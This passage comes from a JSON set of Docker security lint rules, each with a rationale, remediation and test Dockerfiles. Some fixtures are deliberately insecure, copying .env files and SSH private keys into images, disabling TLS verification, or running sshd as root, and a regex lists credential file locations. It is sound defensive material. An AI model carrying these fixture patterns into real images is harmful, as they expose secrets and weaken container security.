.dockerignore\\n.env\\n*.key\\nid_*\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.10"},{"framework":"owasp-docker","id":"RULE #12"},{"framework":"url","url":"https://docs.docker.com/build/building/secrets/"}],"params":{"credentialFile":"(^|/)(\\\\.env(\\\\.(local|dev|development|prod|production|staging|test))?|id_(rsa|dsa|ecdsa|ed25519)|\\\\.pypirc|\\\\.netrc|\\\\.git-credentials|\\\\.htpasswd|credentials(\\\\.json)?)$|(^|/)[^/]+\\\\.(key|p12|pfx|jks|keystore)$|(privkey|[-_.]key)\\\\.pem$|(^|/)[^/]*service-account[^/]*\\\\.json$|(^|/)\\\\.(aws|ssh|gnupg)(/|$)|(^|/)\\\\.docker/config\\\\.json$|(^|/)\\\\.kube/config$"},"paramSchemas":{"credentialFile":{"schema":{"type":"string","format":"regex","minLength":1},"description":"File names that hold credentials: dotenv files (not .env.example), SSH private keys, registry and package-index credentials, cloud credentials, private keys and key stores. A project\'s `.npmrc` usually holds only the registry and a `${NPM_TOKEN}` reference, so it is left out; a `.pem` counts only when named as a key (most are public certificates)."}},"tests":[{"file":"Dockerfile","content":"FROM node:22-slim\\nWORKDIR /app\\nCOPY package.json package-lock.json ./\\nCOPY .env /app/.env\\nCOPY deploy/id_ed25519 /root/.ssh/id_ed25519\\nADD certs/server.key /etc/ssl/private/\\n","expect":[{"line":4,"column":6,"endLine":4,"endColumn":10},{"line":4,"column":11,"endLine":4,"endColumn":20},{"line":5,"column":6,"endLine":5,"endColumn":23},{"line":5,"column":24,"endLine":5,"endColumn":45},{"line":6,"column":5,"endLine":6,"endColumn":21}]},{"file":"Dockerfile","content":"FROM node:22-slim\\nWORKDIR /app\\nCOPY package.json package-lock.json .npmrc ./\\nCOPY .env.example /app/.env.example\\nCOPY certs/ca.pem /usr/local/share/ca-certificates/ca.crt\\nCOPY .docker/php/php.ini /usr/local/etc/php/php.ini\\nRUN --mount=type=secret,id=npmrc,target=/root/.npmrc npm ci\\nCOPY . .\\n","expect":[]}],"source":"policies/docker/dockerfile-copies-credential-file.yaml"},{"id":"dockerfile-env-disables-tls-verification","pack":"docker","title":"Environment variable turns off TLS verification in the build or the image","severity":"medium","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"if":{"properties":{"keyword":{"enum":["ENV","ARG","RUN"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":{"$param":"disablingVariable"}}}}}}}}}},"message":"`{{value}}` turns off TLS certificate verification for every tool that reads it in stage {{name}} (and, with ENV, in every container started from the image), so a spoofed server can feed it code or data. Remove it and install the CA certificate the tools need instead.","rationale":"`NODE_TLS_REJECT_UNAUTHORIZED=0`, `GIT_SSL_NO_VERIFY`, `PYTHONHTTPSVERIFY=0`, `NPM_CONFIG_STRICT_SSL=false` and `PIP_TRUSTED_HOST` disable certificate checks for every connection the program makes. In a RUN or ARG they open the build to man-in-the-middle package substitution; in an ENV they are baked into the image and silently weaken the application at run time too. The CIS Docker Benchmark (4.11) asks that only verified packages be installed.","remediation":"Trust the certificate instead of turning verification off:\\n\\n```dockerfile\\nCOPY corp-root-ca.crt /usr/local/share/ca-certificates/corp-root-ca.crt\\nRUN update-ca-certificates\\nENV NODE_EXTRA_CA_CERTS=/usr/local/share/ca-certificates/corp-root-ca.crt\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.11"},{"framework":"url","url":"https://docs.docker.com/reference/dockerfile/#env"}],"params":{"disablingVariable":"^(NODE_TLS_REJECT_UNAUTHORIZED=0|NODE_TLS_REJECT_UNAUTHORIZED|GIT_SSL_NO_VERIFY(=.*)?|PYTHONHTTPSVERIFY=0|PYTHONHTTPSVERIFY|(NPM_CONFIG_STRICT_SSL|npm_config_strict_ssl)=false|PIP_TRUSTED_HOST(=.*)?)$"},"paramSchemas":{"disablingVariable":{"schema":{"type":"string","format":"regex","minLength":1},"description":"`NAME=value` words (ENV, ARG, or an assignment in a RUN) that switch verification off for Node.js, Git, Python, npm and pip; the bare names cover the legacy `ENV NAME value` form."}},"tests":[{"file":"Dockerfile","content":"FROM node:22-slim\\nENV NODE_ENV=production NODE_TLS_REJECT_UNAUTHORIZED=0\\nENV GIT_SSL_NO_VERIFY 1\\nRUN PIP_TRUSTED_HOST=pypi.example.com pip install internal-lib==1.0\\n","expect":[{"line":2,"column":25,"endLine":2,"endColumn":55},{"line":3,"column":5,"endLine":3,"endColumn":22},{"line":4,"column":5,"endLine":4,"endColumn":38}]},{"file":"Dockerfile","content":"FROM node:22-slim\\nCOPY corp-root-ca.crt /usr/local/share/ca-certificates/\\nRUN update-ca-certificates\\nENV NODE_EXTRA_CA_CERTS=/usr/local/share/ca-certificates/corp-root-ca.crt NODE_TLS_REJECT_UNAUTHORIZED=1\\n","expect":[]}],"source":"policies/docker/dockerfile-env-disables-tls-verification.yaml"},{"id":"dockerfile-final-stage-root","pack":"docker","title":"Image\'s final stage runs as root","severity":"medium","subject":"dockerfile.stage","when":{"properties":{"isFinal":{"const":true}}},"schema":{"required":["user"],"properties":{"user":{"not":{"pattern":{"$param":"rootUser"}}}}},"message":"The final stage ({{name}}) runs the image\'s process as root: it has no USER instruction, or its USER is root or 0, so whoever exploits the application is root inside the container. Create an unprivileged user and add `USER <name or uid>` at the end of the final stage.","rationale":"A container process that runs as root keeps every capability Docker grants by default, can rewrite the whole image filesystem, and is root on the host if it escapes through a kernel or runtime vulnerability or a careless mount. Most applications need no root at all at run time. Without a USER instruction an image runs as its base image\'s user, which is root for most official base images; USER is inherited from a stage named in FROM, so a final stage built on a non-root stage passes. The CIS Docker Benchmark and the OWASP cheat sheet both ask that images define a non-root user. Severity is medium: some base images already set a non-root user that this Dockerfile cannot show, and such a finding can be suppressed with that reason.","remediation":"Create a user (a fixed UID keeps file ownership predictable) and switch to it after the steps\\nthat need root:\\n\\n```dockerfile\\nFROM node:22-bookworm-slim\\nWORKDIR /app\\nCOPY --chown=10001:10001 . .\\nRUN groupadd --system --gid 10001 app \\\\\\n && useradd --system --uid 10001 --gid app --no-log-init app\\nUSER 10001:10001\\nCMD [\\"node\\", \\"server.js\\"]\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.1"},{"framework":"owasp-docker","id":"RULE #2"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#user"}],"params":{"rootUser":"^\\\\s*(root|0+)(:.*|\\\\s*)$"},"paramSchemas":{"rootUser":{"schema":{"type":"string","format":"regex","minLength":1},"description":"The user part names root (by name or UID 0), whatever group follows."}},"tests":[{"file":"Dockerfile","content":"FROM node:22-bookworm-slim\\nWORKDIR /app\\nCOPY . .\\nCMD [\\"node\\", \\"server.js\\"]\\n","expect":[{"line":1,"column":6,"endLine":1,"endColumn":27}]},{"file":"Dockerfile","content":"FROM golang:1.23 AS build\\nUSER 10001\\nRUN go build -o /out/app ./...\\n\\nFROM build AS runtime\\nUSER root\\nRUN apt-get update && apt-get install -y ca-certificates\\nUSER 0:0\\nENTRYPOINT [\\"/out/app\\"]\\n","expect":[{"line":8,"column":1,"endLine":8,"endColumn":9}]},{"file":"Dockerfile","content":"FROM python:3.12-slim AS base\\nRUN useradd --uid 10001 app\\nUSER root:app\\n\\nFROM base\\nCOPY app.py /app.py\\nCMD [\\"python\\", \\"/app.py\\"]\\n","expect":[{"line":3,"column":1,"endLine":3,"endColumn":14}]},{"file":"Dockerfile","content":"FROM python:3.12-slim AS base\\nRUN useradd --uid 10001 app\\nUSER app\\n\\nFROM base AS final\\nCOPY --chown=app app.py /app.py\\nCMD [\\"python\\", \\"/app.py\\"]\\n","expect":[]},{"file":"Dockerfile","content":"ARG APP_UID=10001\\nFROM rust:1.82 AS build\\nRUN cargo build --release\\n\\nFROM gcr.io/distroless/cc-debian12:nonroot\\nCOPY --from=build /target/release/app /app\\nUSER ${APP_UID}\\nENTRYPOINT [\\"/app\\"]\\n","expect":[]},{"file":"Dockerfile","content":"FROM alpine:3.20 AS build\\nRUN echo build\\n\\nFROM alpine:3.20\\nRUN adduser -D -u 10001 app\\nUSER app\\nRUN echo done\\nUSER root\\n","expect":[{"line":8,"column":1,"endLine":8,"endColumn":10}]}],"source":"policies/docker/dockerfile-final-stage-root.yaml"},{"id":"dockerfile-no-healthcheck","pack":"docker","title":"Image has no HEALTHCHECK","severity":"low","subject":"dockerfile.stage","when":{"properties":{"isFinal":{"const":true}}},"schema":{"required":["healthcheck"],"properties":{"healthcheck":{"properties":{"disable":{"const":false}}}}},"message":"The final stage ({{name}}) defines no working HEALTHCHECK (none is set, or `HEALTHCHECK NONE` switches the base image\'s off), so Docker cannot tell a hung container from a healthy one. Add one that probes the service, e.g. `HEALTHCHECK CMD [\\"/app/healthcheck\\"]`.","rationale":"A HEALTHCHECK in the image travels with it to every place it runs: Docker marks the container unhealthy when the probe fails, Compose can wait for `service_healthy`, and Swarm replaces the task. Without one, a deadlocked or degraded service looks as \\"running\\" as a healthy one. The CIS Docker Benchmark (4.6) asks that images carry a HEALTHCHECK instruction. Images that only ever run under Kubernetes (which ignores it and uses probes instead) may suppress this with that reason. A Compose `healthcheck:` on the service also satisfies container-no-healthcheck.","remediation":"Add a probe to the final stage. For an image without a shell, ship a small probe binary:\\n\\n```dockerfile\\nFROM gcr.io/distroless/static-debian12:nonroot\\nCOPY --from=build /out/app /out/healthcheck /\\nHEALTHCHECK --interval=30s --timeout=3s --retries=3 CMD [\\"/healthcheck\\"]\\nENTRYPOINT [\\"/app\\"]\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.6"},{"framework":"url","url":"https://docs.docker.com/reference/dockerfile/#healthcheck"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM golang:1.23 AS build\\nRUN go build -o /out/app ./...\\n\\nFROM gcr.io/distroless/static-debian12:nonroot\\nCOPY --from=build /out/app /app\\nENTRYPOINT [\\"/app\\"]\\n","expect":[{"line":4,"column":6,"endLine":4,"endColumn":47}]},{"file":"Dockerfile","content":"FROM nginx:1.27 AS base\\nHEALTHCHECK CMD curl -f http://localhost/ || exit 1\\n\\nFROM base\\nHEALTHCHECK NONE\\n","expect":[{"line":5,"column":1,"endLine":5,"endColumn":17}]},{"file":"Dockerfile","content":"FROM python:3.12-slim AS base\\nHEALTHCHECK --interval=30s CMD [\\"python\\", \\"-c\\", \\"import urllib.request as u; u.urlopen(\'http://localhost:8000/health\')\\"]\\n\\nFROM base\\nCOPY app.py /app/app.py\\nCMD [\\"python\\", \\"/app/app.py\\"]\\n","expect":[]}],"source":"policies/docker/dockerfile-no-healthcheck.yaml"},{"id":"dockerfile-run-insecure-options","pack":"docker","title":"RUN step asks for an insecure sandbox or the host network","severity":"medium","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"properties":{"flags":{"properties":{"security":{"items":{"not":{"const":"insecure"}}},"network":{"items":{"not":{"const":"host"}}}}}}}}}},"message":"This RUN in stage {{name}} lifts the build sandbox (`{{value}}`): `--security=insecure` runs the step like a privileged container, and `--network=host` lets it reach everything the build host can. Remove the flag; move work that truly needs it out of the image build.","rationale":"BuildKit runs every RUN step in a sandbox with its own network and the default seccomp and AppArmor confinement. `RUN --security=insecure` (entitlement `security.insecure`) runs the step with full privileges, like `--privileged`, so a compromised dependency installed in that step can take over the builder, which on CI often holds credentials and caches for other builds. `RUN --network=host` (entitlement `network.host`) gives the step the builder host\'s network, including services bound to its localhost and cloud metadata endpoints. Both need an explicit entitlement from whoever runs the build, which is exactly what a reviewer should see asked for.","remediation":"Remove the flag. Steps that need network access use the default sandboxed network; steps that\\nneed privileges (loop devices, mounts) belong in a CI job step, not in the Dockerfile:\\n\\n```dockerfile\\nRUN --mount=type=cache,target=/root/.cache/go-build go build -o /out/app ./...\\n```","references":[{"framework":"url","url":"https://docs.docker.com/reference/dockerfile/#run---security"},{"framework":"url","url":"https://docs.docker.com/reference/dockerfile/#run---network"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"# syntax=docker/dockerfile:1-labs\\nFROM alpine:3.20\\nRUN --security=insecure mount -t tmpfs none /mnt\\nRUN --network=host wget -qO- http://localhost:8080/assets.tar | tar -x\\n","expect":[{"line":3,"column":5,"endLine":3,"endColumn":24},{"line":4,"column":5,"endLine":4,"endColumn":19}]},{"file":"Dockerfile","content":"# syntax=docker/dockerfile:1\\nFROM alpine:3.20\\nRUN --network=none ./offline-tests.sh\\nRUN --security=sandbox --mount=type=cache,target=/var/cache/apk apk add git\\n","expect":[]}],"source":"policies/docker/dockerfile-run-insecure-options.yaml"},{"id":"dockerfile-secret-in-arg-or-env","pack":"docker","title":"Secret passed through ARG or ENV","severity":"medium","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"if":{"properties":{"keyword":{"enum":["ARG","ENV"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":{"$param":"secretName"}}}}}}}}}},"message":"Stage {{name}} passes a secret-looking variable through ARG or ENV; its value stays readable in the image\'s history and metadata (and, with ENV, in every container), for anyone who can pull the image. Use a build secret instead: `RUN --mount=type=secret,id=\u2026,env=\u2026`.","rationale":"Build arguments are recorded in the image\'s build history (and in provenance attestations), and ENV values are part of the image configuration: `docker history` and `docker inspect` show them to everyone who can pull the image, and multi-stage builds do not help when the variable is set in the final stage. BuildKit\'s SecretsUsedInArgOrEnv check, the CIS Docker Benchmark (4.10) and the OWASP cheat sheet (rule 12) ask that secrets be handed to the build with secret mounts, which leave nothing behind in the image.","remediation":"Mount the secret for the one RUN that needs it:\\n\\n```dockerfile\\n# syntax=docker/dockerfile:1\\nRUN --mount=type=secret,id=npm_token,env=NPM_TOKEN \\\\\\n    npm ci --omit=dev\\n```\\n\\nand pass it at build time with `docker build --secret id=npm_token,env=NPM_TOKEN .` (or the\\n`secrets:` input of docker/build-push-action).","references":[{"framework":"cis-docker","id":"1.6.0:4.10"},{"framework":"owasp-docker","id":"RULE #12"},{"framework":"docker-build-check","id":"SecretsUsedInArgOrEnv"},{"framework":"url","url":"https://docs.docker.com/reference/build-checks/secrets-used-in-arg-or-env/"},{"framework":"url","url":"https://docs.docker.com/build/building/secrets/"}],"params":{"secretName":"^(?:[A-Za-z0-9]+_)*(?:PASSWORD|PASSWD|PWORD|PASS|SECRET|TOKEN|APIKEY|KEY|AUTH|CREDENTIAL|CREDENTIALS|password|passwd|pword|pass|secret|token|apikey|key|auth|credential|credentials)(?:_[A-Za-z0-9_]*)?(?<!(?:^|_)(?:PUBLIC|public|Public)(?:_[A-Za-z0-9_]*)?)(?<!_(?:FILE|PATH|DIR|URL|URI|HOST|PORT|USER|USERNAME|NAME|ID|ENABLED|TYPE|file|path|dir|url|uri|host|port|user|username|name|id|enabled|type))(?:=|$)"},"paramSchemas":{"secretName":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A variable name with a secret-looking token (BuildKit\'s SecretsUsedInArgOrEnv list: apikey, auth, credential(s), key, password, pword, passwd, secret, token, plus pass) between underscores or at either end, optionally followed by `=value`. PUBLIC names and names that point at a file, a place or an account (`_FILE`, `_PATH`, `_URL`, `_ID`, \u2026) are left out."}},"tests":[{"file":"Dockerfile","content":"FROM node:22-slim\\nARG NPM_TOKEN\\nENV NODE_ENV=production API_KEY=sk_live_123\\nARG AWS_SECRET_ACCESS_KEY\\nRUN npm ci\\n","expect":[{"line":2,"column":5,"endLine":2,"endColumn":14},{"line":3,"column":25,"endLine":3,"endColumn":44},{"line":4,"column":5,"endLine":4,"endColumn":26}]},{"file":"Dockerfile","content":"FROM node:22-slim\\nARG NODE_VERSION=22\\nENV PUBLIC_KEY_URL=https://keys.example.com/pub.asc MONKEY=banana\\nENV POSTGRES_PASSWORD_FILE=/run/secrets/db_password\\nRUN --mount=type=secret,id=npm_token,env=NPM_TOKEN npm ci\\n","expect":[]}],"source":"policies/docker/dockerfile-secret-in-arg-or-env.yaml"},{"id":"dockerfile-ssh-server","pack":"docker","title":"Image installs, runs or exposes an SSH server","severity":"medium","subject":"dockerfile.stage","schema":{"properties":{"expose":{"items":{"not":{"pattern":{"$param":"sshPort"}}}},"instructions":{"items":{"if":{"properties":{"keyword":{"enum":["RUN","CMD","ENTRYPOINT"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":{"$param":"sshServer"}}}}}}}}}},"message":"Stage {{name}} sets up an SSH server (`{{value}}`), which adds a network login, keys or passwords to manage, and a long-running root daemon to every container of this image. Remove it and use `docker exec` (or `kubectl exec`) to get a shell in a running container.","rationale":"An SSH daemon in a container is a second way in that bypasses Docker\'s access control: it needs host keys and credentials baked into the image or managed per container, it usually runs as root, and it is one more service to patch. Docker already provides an authenticated way to run a shell in a container. The CIS Docker Benchmark (5.7) asks that sshd not run within containers.","remediation":"Drop the SSH server, the port and the keys, and get a shell through Docker instead:\\n\\n```sh\\ndocker exec -it <container> sh\\ndocker cp <container>:/var/log/app.log .\\n```\\n\\nFor files the service produces, use a volume. If remote access is a product feature (a Git\\nserver, a bastion), run it as a dedicated, hardened service rather than inside an application\\nimage.","references":[{"framework":"cis-docker","id":"1.6.0:5.7"},{"framework":"url","url":"https://docs.docker.com/reference/cli/docker/container/exec/"}],"params":{"sshServer":"^(openssh-server|openssh|dropbear|(/usr/sbin/)?sshd)$","sshPort":"^22(/tcp)?$"},"paramSchemas":{"sshServer":{"schema":{"type":"string","format":"regex","minLength":1},"description":"Package names and programs of SSH servers, as words of RUN, CMD and ENTRYPOINT."},"sshPort":{"schema":{"type":"string","format":"regex","minLength":1},"description":"An EXPOSE entry that publishes the SSH port."}},"tests":[{"file":"Dockerfile","content":"FROM ubuntu:24.04\\nRUN apt-get update && apt-get install -y --no-install-recommends openssh-server \\\\\\n && rm -rf /var/lib/apt/lists/*\\nEXPOSE 22 8080\\nCMD [\\"/usr/sbin/sshd\\", \\"-D\\"]\\n","expect":[{"line":2,"column":66,"endLine":2,"endColumn":80},{"line":4,"column":8,"endLine":4,"endColumn":10},{"line":5,"column":6,"endLine":5,"endColumn":22}]},{"file":"Dockerfile","content":"FROM alpine:3.20\\nRUN apk add --no-cache openssh-client git\\nEXPOSE 8080/tcp 2222\\nCMD [\\"ssh\\", \\"-V\\"]\\n","expect":[]}],"source":"policies/docker/dockerfile-ssh-server.yaml"},{"id":"image-from-variable","pack":"docker","title":"Image reference cannot be verified (built from an unresolved variable)","severity":"info","subject":"image","when":{"not":{"properties":{"origin":{"const":"compose-service"}}}},"schema":{"properties":{"isVariable":{"const":false}}},"message":"`{{subject.ref}}` is filled in from a variable at run time, so no rule here can tell which image runs, whether it is pinned or where it comes from. Give the variable a pinned default (e.g. `${IMAGE:-ghcr.io/example/app:1.4.2@sha256:\u2026}`, `ARG BASE=\u2026`), or write the reference out.","rationale":"Tag, digest and registry rules judge the reference as written. When it is a variable without a default (a Dockerfile `ARG` without a value, a workflow `${{ inputs.image }}` or `$IMAGE` in a script), whoever sets the variable chooses the image, and a reviewer of this file cannot see it. That is sometimes the point (a matrix over database versions), so the rule is informational: it marks the places the other image rules could not check.","remediation":"Give the variable a default that satisfies the image rules, so the file says what runs unless\\nsomeone deliberately overrides it:\\n\\n```dockerfile\\nARG BASE_IMAGE=python:3.12-slim@sha256:<digest>\\nFROM ${BASE_IMAGE}\\n```\\n\\n```yaml\\nservices:\\n  app:\\n    image: ${APP_IMAGE:-ghcr.io/example/app:1.4.2}\\n```","references":[{"framework":"url","url":"https://docs.docker.com/reference/dockerfile/#understand-how-arg-and-from-interact"},{"framework":"url","url":"https://docs.docker.com/compose/how-tos/environment-variables/variable-interpolation/"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"ARG BASE_IMAGE\\nFROM ${BASE_IMAGE}\\nRUN echo hi\\n","expect":[{"line":2,"column":6,"endLine":2,"endColumn":19}]},{"file":"Dockerfile","content":"ARG BASE_IMAGE=python:3.12-slim\\nFROM ${BASE_IMAGE}\\nRUN echo hi\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: ${{ inputs.image }}\\n    steps:\\n      - run: docker run --rm \\"$TOOL_IMAGE\\" --version\\n","expect":[{"line":5,"column":5,"endLine":5,"endColumn":35},{"line":7,"column":14,"endLine":7,"endColumn":53}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: node:22\\n    steps:\\n      - uses: docker://alpine:3.20\\n      - run: docker run --rm ghcr.io/example/tool:1.2.0 --version\\n","expect":[]}],"source":"policies/docker/image-from-variable.yaml"},{"id":"image-latest-tag","pack":"docker","title":"Image uses the latest tag or no tag","severity":"medium","subject":"image","when":{"properties":{"isVariable":{"const":false}}},"schema":{"properties":{"isLatest":{"const":false}}},"message":"`{{subject.ref}}` has no tag or the `latest` tag, so every pull may bring a different image and nobody can tell from this file which one ran. Name a version tag, such as `nginx:1.27`, and preferably its digest too.","rationale":"`latest` is only a default name, not a promise of the newest or of any stable version, and a reference without a tag means `latest`. Builds and deployments that use it change behaviour without a change in the repository, cannot be reproduced or rolled back, and may silently pick up a broken or compromised image. Docker\'s build best practices ask to pin base image versions, and the CIS Docker Benchmark asks that the image version in use be known and kept current.","remediation":"Write the version you have tested; add the digest to make it immutable (and let Dependabot or\\nRenovate keep both current):\\n\\n```dockerfile\\nFROM node:22.11-bookworm-slim\\n```\\n\\n```yaml\\nservices:\\n  cache:\\n    image: redis:7.4.1\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.28"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#pin-base-image-versions"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx\\n  cache:\\n    image: \\"redis:latest\\"\\n  db:\\n    image: postgres:16\\n  app:\\n    image: ${APP_IMAGE:-ghcr.io/example/app}\\n","expect":[{"line":3,"column":5,"endLine":3,"endColumn":17},{"line":5,"column":5,"endLine":5,"endColumn":26},{"line":9,"column":5,"endLine":9,"endColumn":45}]},{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\\n  proxy:\\n    image: \\"${PROXY_IMAGE:-traefik:v3.1}\\"\\n  registry:\\n    image: localhost:5000/team/app:2.1.0\\n","expect":[]},{"file":"Dockerfile","content":"ARG BASE=python:latest\\nFROM golang AS build\\nRUN go build -o /out/app ./...\\n\\nFROM ${BASE}\\nCOPY --from=build /out/app /usr/local/bin/app\\n","expect":[{"line":2,"column":6,"endLine":2,"endColumn":12},{"line":5,"column":6,"endLine":5,"endColumn":13}]},{"file":"Dockerfile","content":"ARG NODE_IMAGE\\nFROM node:22-bookworm-slim AS deps\\nRUN npm ci\\n\\nFROM deps AS test\\nRUN npm test\\n\\nFROM ${NODE_IMAGE}\\nCOPY --from=deps /app /app\\n\\nFROM scratch\\nCOPY --from=deps /app /app\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: node\\n    services:\\n      redis:\\n        image: redis:latest\\n      db:\\n        image: ${{ matrix.db }}\\n    steps:\\n      - uses: docker://alpine\\n      - run: docker run --rm -v \\"$PWD:/src\\" hadolint/hadolint hadolint /src/Dockerfile\\n","expect":[{"line":5,"column":5,"endLine":5,"endColumn":20},{"line":8,"column":9,"endLine":8,"endColumn":28},{"line":12,"column":9,"endLine":12,"endColumn":30},{"line":13,"column":14,"endLine":13,"endColumn":87}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n    steps:\\n      - uses: docker://alpine:3.20\\n      - run: |\\n          docker run --rm \\"${IMAGE}\\" true\\n          docker run --rm ghcr.io/example/tool:1.2.0 true\\n","expect":[]}],"source":"policies/docker/image-latest-tag.yaml"},{"id":"image-not-pinned-by-digest","pack":"docker","title":"Image is not pinned by digest","severity":"low","subject":"image","when":{"properties":{"isVariable":{"const":false}}},"schema":{"required":["digest"],"properties":{"digest":{"pattern":{"$param":"digest"}}}},"message":"`{{subject.ref}}` is not pinned by a full `@sha256:` digest, so the registry can serve different content under this name at any time and this file does not say which image actually runs. Append the digest, e.g. `nginx:1.27@sha256:<digest>`, and let Dependabot or Renovate keep it current.","rationale":"Tags are mutable pointers: a publisher (or anyone who takes over the publisher\'s account or registry) can push new content under an existing tag, and the next pull or build uses it without any change in the repository. A `@sha256:` digest names the exact content and is checked by Docker on pull, which makes builds reproducible and a swapped image detectable. Docker\'s build best practices and the OWASP cheat sheet\'s supply-chain guidance recommend pinning by digest; OpenSSF Scorecard checks it. The rule is low severity because it concerns nearly every image in a typical repository; raise it where the supply chain matters most.","remediation":"Keep the tag for readers and add the digest it currently resolves to\\n(`docker buildx imagetools inspect nginx:1.27` prints it):\\n\\n```dockerfile\\nFROM nginx:1.27@sha256:<64 hex digits>\\n```\\n\\n```yaml\\nservices:\\n  web:\\n    image: nginx:1.27@sha256:<64 hex digits>\\n```\\n\\nDependabot (`package-ecosystem: docker`) and Renovate update pinned digests through pull\\nrequests, so pinning does not mean falling behind on security fixes.","references":[{"framework":"owasp-docker","id":"RULE #13"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#pin-base-image-versions"}],"params":{"digest":"^sha256:[0-9a-f]{64}$"},"paramSchemas":{"digest":{"schema":{"type":"string","format":"regex","minLength":1},"description":"What a pinned digest looks like."}},"tests":[{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n  cache:\\n    image: redis@sha256:0123\\n  db:\\n    image: postgres:16@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\\n  app:\\n    image: ${APP_IMAGE:-ghcr.io/example/app:1.4.2}\\n","expect":[{"line":3,"column":5,"endLine":3,"endColumn":22},{"line":5,"column":5,"endLine":5,"endColumn":29},{"line":9,"column":5,"endLine":9,"endColumn":51}]},{"file":"compose.yaml","content":"x-image: &image\\n  image: ghcr.io/example/app:1.4.2@sha256:89abcdef0123456789abcdef0123456789abcdef0123456789abcdef01234567\\nservices:\\n  app:\\n    <<: *image\\n  worker:\\n    <<: *image\\n    command: [\\"worker\\"]\\n","expect":[]},{"file":"Dockerfile","content":"ARG GO_VERSION=1.23\\nFROM golang:${GO_VERSION} AS build\\nRUN go build -o /out/app ./...\\n\\nFROM build AS test\\nRUN go test ./...\\n\\nFROM gcr.io/distroless/static-debian12@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\\nCOPY --from=build /out/app /app\\n","expect":[{"line":2,"column":6,"endLine":2,"endColumn":26}]},{"file":"Dockerfile","content":"ARG BASE_IMAGE\\nFROM ${BASE_IMAGE} AS base\\nFROM base\\nFROM scratch\\nCOPY --from=base /etc/ssl/certs /etc/ssl/certs\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n    services:\\n      db:\\n        image: ${{ matrix.db }}\\n    steps:\\n      - uses: docker://ghcr.io/example/linter:2.0.0\\n      - run: |\\n          docker run --rm ghcr.io/example/tool@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef true\\n          docker run --rm alpine:3.20 true\\n","expect":[{"line":6,"column":7,"endLine":6,"endColumn":21},{"line":11,"column":9,"endLine":11,"endColumn":52},{"line":14,"column":11,"endLine":14,"endColumn":43}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: node:22@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\\n    steps:\\n      - uses: docker://alpine:3.20@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\\n      - run: docker run --rm \\"$IMAGE\\" true\\n","expect":[]}],"source":"policies/docker/image-not-pinned-by-digest.yaml"},{"id":"image-untrusted-registry","pack":"docker","title":"Image comes from a registry that is not on the trusted list","severity":"low","subject":"image","when":{"properties":{"isVariable":{"const":false}}},"schema":{"properties":{"registry":{"enum":{"$param":"trustedRegistries"}}}},"message":"`{{subject.ref}}` is pulled from `{{value}}`, which is not one of the registries this repository trusts, so nobody has agreed to run code from it. Use an image from a trusted registry or mirror, or add the registry to the `trustedRegistries` parameter after review.","rationale":"An image runs with whatever code its registry serves. A typo-squatted host, an abandoned personal registry or an unauthenticated internal mirror can serve a tampered image under a familiar name, and scanning and signing policies usually apply only to the registries an organisation controls. The CIS Docker Benchmark (4.2) asks that containers use only trusted base images. The `trustedRegistries` parameter lists the hosts accepted; the default accepts Docker Hub, GitHub\'s registry, the registries Microsoft, Google, Kubernetes, AWS, Chainguard and Elastic serve their own images from, and a local registry. Other community registries (quay.io, \u2026) are reported until a team adds them.","remediation":"Pull the image through a registry you trust (your own, or a mirror of the public one), or add\\nthe registry to the list in `.github/containment.yml`:\\n\\n```yaml\\nparams:\\n  image-untrusted-registry:\\n    trustedRegistries: [registry.example.com, ghcr.io]\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.2"},{"framework":"url","url":"https://docs.docker.com/docker-hub/image-library/trusted-content/"}],"params":{"trustedRegistries":["docker.io","ghcr.io","mcr.microsoft.com","gcr.io","registry.k8s.io","public.ecr.aws","cgr.dev","docker.elastic.co","localhost","localhost:5000"]},"paramSchemas":{"trustedRegistries":{"schema":{"type":"array","items":{"type":"string","minLength":1}},"description":"Registry hosts (as Docker resolves them: `docker.io` for Docker Hub) images may be pulled from. The default is Docker Hub, GitHub\'s registry (where actions and this repository\'s own images usually live), and the registries that vendors serve their own images from; a local registry. Replace the list with your organisation\'s registries and mirrors."}},"tests":[{"file":"compose.yaml","content":"services:\\n  app:\\n    image: registry.example.net/team/app:1.4.2\\n  web:\\n    image: nginx:1.27\\n 